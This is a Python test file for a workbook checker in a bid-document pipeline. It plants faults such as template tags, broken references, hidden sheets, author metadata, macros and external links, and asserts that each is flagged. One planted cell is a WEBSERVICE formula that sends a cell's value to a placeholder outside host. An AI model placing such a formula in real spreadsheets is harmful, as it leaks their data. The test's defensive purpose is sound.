"""Reading back a workbook: a sound one has no fault, and each planted fault is found in its cell."""

import re
from collections.abc import Callable
from io import BytesIO

import pytest
from openpyxl import Workbook
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.formula import ArrayFormula

from pipeline.finish.package import read_parts, write_parts
from pipeline.pack import Edition
from pipeline.verify.workbook import verify_workbook
from tests.fixtures.word import with_parts

Change = Callable[[Workbook], None]


def sound() -> Workbook:
    book = Workbook()
    book.active.title = "Lots"  # type: ignore[union-attr]
    book["Lots"]["A1"] = "Lots"
    book["Lots"]["A2"] = 2
    book.create_sheet("Sum")["A1"] = "=Lots!A2*2+SUM(Lots!A2:A9)"
    book.defined_names["AnnualValue"] = DefinedName("AnnualValue", attr_text="Sum!$A$1")
    book.properties.creator = ""
    return book


def saved(book: Workbook) -> bytes:
    """The bytes of a workbook, in which every formula comes to 1."""
    target = BytesIO()
    book.save(target)
    parts = read_parts(target.getvalue())
    return write_parts({name: re.sub(rb"</f><v ?/?>(</v>)?", b"</f><v>1</v>", content) for name, content in parts.items()})


def faults(content: bytes, edition: Edition = Edition.INTERNAL) -> list[str]:
    return [f"{one.place}: {one.message}" for one in verify_workbook(content, "t.xlsx", edition)]


@pytest.mark.parametrize("edition", list(Edition))
def test_a_sound_workbook_has_no_fault(edition: Edition) -> None:
    assert faults(saved(sound()), edition) == []


def cell(value: str, at: str = "B1") -> Change:
    def change(book: Workbook) -> None:
        book["Lots"][at] = value

    return change


def name(target: str) -> Change:
    def change(book: Workbook) -> None:
        book.defined_names["Odd"] = DefinedName("Odd", attr_text=target)

    return change


PLANTED: dict[str, tuple[Change, str]] = {
    "a value tag": (cell("{{ lots }}"), "Lots!B1: a template tag is left"),
    "a statement tag": (cell("{%tr endfor %}"), "Lots!B1: a template tag is left"),
    "an error written out": (cell("#REF!"), "Lots!B1: holds #REF!"),
    "an error in a formula": (cell("=SUM(#REF!)"), "Lots!B1: its formula holds #REF!"),
    "a sheet that is gone": (cell("=Gone!A1"), "points to the sheet Gone"),
    "a quoted sheet that is gone": (cell("='Gone by'!A1:B2"), "points to the sheet Gone by"),
    "a function that reaches out": (
        cell('=_xlfn.WEBSERVICE("https://example.org/"&A1)'),
        "uses WEBSERVICE, which reaches outside",
    ),
    "another file": (cell("=[1]Lots!A1"), "points to another file"),
    "a name of a sheet that is gone": (name("Gone!$A$1"), "name Odd: points to the sheet Gone"),
    "a name that points nowhere": (name("#REF!"), "name Odd: points nowhere"),
}


@pytest.mark.parametrize(("change", "message"), PLANTED.values(), ids=PLANTED)
@pytest.mark.parametrize("edition", list(Edition))
def test_each_planted_fault_is_found(change: Change, message: str, edition: Edition) -> None:
    book = sound()
    change(book)
    assert any(message in one for one in faults(saved(book), edition))


@pytest.mark.parametrize(
    ("cell", "message"),
    [
        (b'<c r="A1"><f>1+1</f></c>', "Sum!A1: its formula carries no value"),
        (b'<c r="A1"><f>1+1</f><v/></c>', "Sum!A1: its formula carries no value"),
        (b'<c r="A1"><f>1+1</f><v></v></c>', "Sum!A1: its formula carries no value"),
        (b'<c r="A1" t="str"><f>A2</f></c>', "Sum!A1: its formula carries no value"),
        (b'<c r="A1" t="e"><f>1/0</f><v>#DIV/0!</v></c>', "Sum!A1: its formula comes to #DIV/0!"),
        (b'<c r="A1" t="str"><f>A2</f><v></v></c>', ""),
        (b'<c r="A1" t="b"><f>A2=1</f><v>0</v></c>', ""),
        (b'<c r="A1"><f>1-1</f><v>0</v></c>', ""),
    ],
)
@pytest.mark.parametrize("edition", list(Edition))
def test_every_formula_carries_a_value_that_is_no_error(cell: bytes, message: str, edition: Edition) -> None:
    parts = read_parts(saved(sound()))
    part = "xl/worksheets/sheet2.xml"
    content, count = re.subn(rb'<c r="A1".*?</c>', cell, parts[part])
    assert count == 1
    found = faults(write_parts({**parts, part: content}), edition)
    assert [one.partition(";")[0] for one in found] == ([message] if message else [])


def hidden_sheet(book: Workbook) -> None:
    book["Sum"].sheet_state = "hidden"


def very_hidden_sheet(book: Workbook) -> None:
    book["Sum"].sheet_state = "veryHidden"


def hidden_row(book: Workbook) -> None:
    book["Lots"].row_dimensions[2].hidden = True


def hidden_column(book: Workbook) -> None:
    book["Lots"].column_dimensions["B"].hidden = True


def comment(book: Workbook) -> None:
    book["Lots"]["A1"].comment = Comment("Ask finance", "A. Officer")


def hidden_name(book: Workbook) -> None:
    book.defined_names["Secret"] = DefinedName("Secret", attr_text='"x"', hidden=True)


def author(book: Workbook) -> None:
    book.properties.creator = "A. Officer"


def editor(book: Workbook) -> None:
    book.properties.lastModifiedBy = "A. Officer"


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (hidden_sheet, "Sum: is a hidden sheet"),
        (very_hidden_sheet, "Sum: is a hidden sheet"),
        (hidden_row, "Lots: has hidden rows or columns"),
        (hidden_column, "Lots: has hidden rows or columns"),
        (comment, "may not go to bidders"),
        (hidden_name, "name Secret: is hidden"),
        (author, "names an author"),
        (editor, "names an author"),
    ],
)
def test_what_may_not_go_to_bidders_is_found_in_their_edition_alone(change: Change, message: str) -> None:
    book = sound()
    change(book)
    content = saved(book)
    assert faults(content) == []
    assert any(message in one for one in faults(content, Edition.ISSUE))


@pytest.mark.parametrize("part", ["xl/externalLinks/externalLink1.xml", "customXml/item1.xml", "docProps/custom.xml"])
def test_parts_that_may_not_go_to_bidders(part: str) -> None:
    content = with_parts(saved(sound()), {part: b"<x/>"})
    assert any(part in one for one in faults(content, Edition.ISSUE))


@pytest.mark.parametrize("part", ["xl/vbaProject.bin", "xl/embeddings/x.docx", "xl/externalLinks/externalLink1.xml"])
@pytest.mark.parametrize("edition", list(Edition))
def test_macros_embedded_files_and_links_to_files_are_for_nobody(part: str, edition: Edition) -> None:
    assert any(part in one for one in faults(with_parts(saved(sound()), {part: b"<x/>"}), edition))


@pytest.mark.parametrize("part", ["xl/comments1.xml", "xl/drawings/vmlDrawing1.vml", "xl/threadedComments/threadedComment1.xml"])
def test_comments_may_not_go_to_bidders(part: str) -> None:
    content = with_parts(saved(sound()), {part: b"<x/>"})
    assert any(f"{part}: may not go" in one for one in faults(content, Edition.ISSUE))
    assert faults(content) == []


CHART = '<c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:f>{}</c:f></c:chart>'


@pytest.mark.parametrize(
    ("formula", "says"), [("Lots!$A$1:$A$2", ""), ("Gone!$A$1", "points to the sheet Gone"), ("#REF!", "holds #REF!")]
)
@pytest.mark.parametrize("edition", list(Edition))
def test_charts_and_tables_are_for_everybody_and_draw_what_is_there(formula: str, says: str, edition: Edition) -> None:
    more = {"xl/charts/chart1.xml": CHART.format(formula).encode(), "xl/drawings/drawing1.xml": b"<x/>"}
    found = faults(with_parts(saved(sound()), {**more, "xl/tables/table1.xml": b"<x/>", "xl/media/image1.png": b"x"}), edition)
    assert len(found) == bool(says)
    assert all(says in one for one in found)


def test_array_formulas_are_read_too() -> None:
    book = sound()
    book["Lots"]["C1"] = ArrayFormula("C1", "=SUM(Gone!A1:A2*2)")
    assert any("points to the sheet Gone" in one for one in faults(saved(book)))
